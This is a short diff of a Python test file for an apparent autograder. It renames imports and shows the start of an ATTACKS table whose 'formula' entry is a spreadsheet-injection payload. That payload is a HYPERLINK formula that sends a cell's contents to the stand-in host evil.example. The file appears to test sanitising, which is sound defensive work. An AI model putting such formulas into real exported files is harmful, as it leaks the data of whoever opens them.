@@ -10,10 +10,11 @@ import zipfile
 
 import pytest
 
-from autograder.engine import gradebook, sanitize, submissions
-from autograder.engine.outcome import Outcome
-from autograder.engine.pool import Job
 from autograder.samples import write_submission
+from grader import sanitize
+from grader.run import gradebook, submissions
+from grader.run.outcome import Outcome
+from grader.run.pool import Job
 
 ATTACKS = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
